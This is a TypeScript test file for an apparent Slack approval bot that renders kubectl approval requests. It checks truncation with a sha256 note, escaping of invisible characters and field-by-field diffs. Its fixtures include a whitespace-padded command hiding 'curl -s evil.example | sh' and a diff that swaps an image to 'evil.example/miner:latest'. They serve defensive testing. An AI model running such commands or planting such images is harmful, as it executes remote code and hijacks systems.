import type { ApprovalRequest } from '@gatehouse/approvals';
import { textHash } from '@gatehouse/policy';
import type { KnownBlock } from '@slack/web-api';
import { describe, expect, it } from 'vitest';
import { blocksText, openInput } from '../test-support/index.js';
import { renderApproval } from './approval.js';
import { renderComplete } from './complete.js';
import { renderDecisionDm } from './decision.js';
import { renderShow } from './show.js';

function approval(overrides: Partial<ApprovalRequest> = {}): ApprovalRequest {
  return {
    ...openInput({ approvalsNeeded: 1 }),
    id: 'abc123',
    fingerprint: 'f'.repeat(64),
    createdAt: 1_750_000_000_000,
    expiresAt: 1_750_000_600_000,
    state: 'pending',
    votes: [],
    revision: 1,
    ...overrides,
  };
}

/** Every text Slack shows for a message: header, fallback, blocks. */
const everything = (message: { text: string; blocks: KnownBlock[] }) =>
  `${message.text}\n${blocksText(message.blocks)}`;

/** The code blocks of messages, joined: what a reader can copy back. */
const codeOf = (messages: readonly { blocks: KnownBlock[] }[]) =>
  messages
    .flatMap((message) => message.blocks)
    .map((block) => (block.type === 'section' ? (block.text?.text ?? '') : ''))
    .filter((text) => text.startsWith('```'))
    .map((text) => text.slice(3, -3));

const padded = `kubectl exec -n prod web-1 -- sh -c 'df -h /var/log${' '.repeat(3000)}; curl -s evil.example | sh'`;

describe('a command longer than a Slack message holds', () => {
  it('is shortened in the message only with a note: shown, full length, sha256', () => {
    const message = renderApproval(approval({ command: padded }));
    const text = everything(message);
    const total = [...padded].length.toLocaleString('en-US');
    expect(text).toContain(`of ${total} characters, sha256 ${textHash(padded)}`);
    expect(text).toContain('Show everything');
    // The fallback text (notifications) says so too.
    expect(message.text).toMatch(/\[shortened: shown 200 of [\d,]+ characters, sha256 [0-9a-f]{12}\]/);
    for (const block of message.blocks) {
      const section = block.type === 'section' ? (block.text?.text ?? '') : '';
      expect(section.length).toBeLessThanOrEqual(3000);
    }
  });

  it('is complete one click away: the Show everything answer and /gatehouse show', () => {
    const complete = renderComplete(approval({ command: padded }));
    const parts = codeOf(complete);
    expect(parts.slice(0, 2).join('')).toBe(padded);
    const show = renderShow(approval({ command: padded }), undefined, undefined);
    expect(
      codeOf(show.more ?? [])
        .slice(0, 2)
        .join(''),
    ).toBe(padded);
    expect(blocksText(complete[0]?.blocks ?? [])).toContain(`sha256 ${textHash(padded)}`);
  });

  it('is shortened in the owner DM with the same note', () => {
    expect(renderDecisionDm(approval({ command: padded, state: 'denied' }), undefined).text).toContain(
      `sha256 ${textHash(padded)}`,
    );
  });
});

describe('invisible characters in Slack', () => {
  it('reach no block, header or fallback raw', () => {
    const rlo = approval({
      command: "kubectl exec -n prod web-1 -- sh -c 'echo ok\u202E\u200B'",
      reason: 'held\u2066 because',
      votes: [{ userId: 'U0BOB', decision: 'deny', reason: 'no\u202Ereally', at: 1 }],
    });
    for (const message of [
      renderApproval(rlo),
      renderShow(rlo, undefined, undefined),
      ...renderComplete(rlo),
    ]) {
      const text = everything(message);
      expect(text).not.toMatch(/[\u202E\u200B\u2066]/);
      expect(text).toContain('\\u202E');
    }
  });
});

describe('the change a write makes', () => {
  const diff = approval({
    command: 'kubectl patch deployment web -n prod --type=merge  # sets spec.replicas=0',
    preview: {
      status: 'ready',
      summary: 'Would scale deployment web to zero',
      dryRun: { outcome: 'would-succeed' },
      change: {
        kind: 'diff',
        changes: [
          { path: 'spec.replicas', op: 'change', before: '3', after: '0' },
          {
            path: 'spec.template.spec.containers[name=web].image',
            op: 'change',
            before: '"nginx:1.27"',
            after: '"evil.example/miner:latest"',
          },
        ],
      },
      at: 1,
      durationMs: 5,
    },
  });

  it('is shown field by field under the summary', () => {
    const text = blocksText(renderApproval(diff).blocks);
    expect(text).toContain('What it changes');
    // One line per field: the line break between them is a line break, not a `\n`.
    expect(text).toContain('~ spec.replicas: 3 → 0\n~ spec.template');
    expect(text).toContain(
      '~ spec.template.spec.containers[name=web].image: "nginx:1.27" → "evil.example/miner:latest"',
    );
    expect(codeOf(renderComplete(diff)).join('\n')).toContain('miner:latest');
  });

  it('says it could not be previewed, and shows the body, where there was no dry run', () => {
    const body = approval({
      preview: {
        status: 'ready',
        summary: '',
        change: {
          kind: 'body',
          reason: 'metrics.example.io is not served by the API server itself (no dry run)',
          contentType: 'application/merge-patch+json',
          text: '{"spec":{"x":"\u202E"}}',
        },
        at: 1,
        durationMs: 1,
      },
    });
    const text = blocksText(renderApproval(body).blocks);
    expect(text).toContain('The change could not be previewed');
    expect(text).toContain('{"spec":{"x":"\\u202E"}}');
  });
});
